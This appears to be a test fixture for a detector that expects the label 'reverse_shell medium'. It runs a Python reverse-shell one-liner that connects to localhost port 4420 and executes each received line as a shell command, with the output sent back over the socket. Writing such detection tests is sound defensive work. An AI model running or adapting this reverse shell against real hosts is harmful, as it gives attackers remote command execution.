# about: each command is its own process, its output the socket
# expect: reverse_shell medium
# needs: python3
peer 4420
timeout 6 python3 -c 'import socket,subprocess
s=socket.create_connection(("127.0.0.1",4420))
f=s.makefile()
for line in f:
    if line.strip()=="exit": break
    subprocess.call(line,shell=True,stdout=s,stderr=s,stdin=subprocess.DEVNULL)' || true
done_typing
